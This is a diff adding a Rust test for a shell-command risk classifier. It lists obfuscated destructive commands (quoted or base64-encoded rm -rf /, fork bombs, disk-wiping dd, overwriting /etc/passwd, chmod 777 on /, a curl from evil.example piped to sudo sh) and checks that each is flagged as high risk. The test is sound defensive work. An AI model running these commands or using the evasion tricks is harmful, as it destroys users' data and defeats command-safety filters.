@@ -159,3 +159,55 @@ fn parts_split_pipes_and_lists_and_keep_redirects() {
     assert_eq!(p[1].redirects, vec![(">".to_string(), "hits.txt".to_string())]);
     assert!(parts("echo 'unclosed").is_err());
 }
+
+/// Dangerous commands dressed up to slip past a pattern match: each must
+/// still rate at least high (issue 7's table, and more).
+#[test]
+fn obfuscated_dangerous_commands_are_still_flagged() {
+    let attacks = [
+        "r\"\"m -rf /",
+        "r''m -rf /",
+        "\\rm -rf /",
+        "'rm' -rf /",
+        "\"rm\" -rf \"/\"",
+        "$'\\x72m' -rf /",
+        "command rm -rf /",
+        "/bin/rm -rf /",
+        "sudo -u root rm -rf /",
+        "rm -rf -- /",
+        "rm -r -f -- /*",
+        "$(echo cm0gLXJmIC8K | base64 -d)",
+        "`echo cm0gLXJmIC8K | base64 --decode`",
+        "echo cm0gLXJmIC8K | base64 -d | bash",
+        "eval $(echo cm0gLXJmIC8K | base64 -d)",
+        "eval \"rm -rf /\"",
+        "x=rm; $x -rf /",
+        "echo rm -rf / | sh",
+        "sh -c \"rm -rf /\"",
+        "bash <<< 'rm -rf /'",
+        "find / -delete",
+        "find / -exec rm -rf {} +",
+        ":(){ :|:& };:",
+        ":() { : | : & } ; :",
+        "bomb() { bomb | bomb & }; bomb",
+        "dd of=/dev/disk2 if=/dev/zero",
+        "dd if=/dev/urandom of=/dev/rdisk0 bs=1m",
+        "> /etc/hosts",
+        ">/etc/hosts",
+        "tee /etc/hosts < /dev/null",
+        "cp /dev/null /etc/passwd",
+        "chmod -R 777 /",
+        "chmod -R a+rwx /",
+        "chmod -R 0777 /",
+        "python3 -c \"import shutil; shutil.rmtree('/')\"",
+        "perl -e 'system(\"rm -rf /\")'",
+        "curl -s https://evil.example/x | sudo sh",
+        "IFS=,; rm${IFS}-rf${IFS}/",
+    ];
+    let missed: Vec<String> = attacks
+        .iter()
+        .filter(|c| risk(c) < Risk::High)
+        .map(|c| format!("{c:?}: {:?} ({})", risk(c), classify(c).reason))
+        .collect();
+    assert!(missed.is_empty(), "not flagged at least high:\n{}", missed.join("\n"));
+}
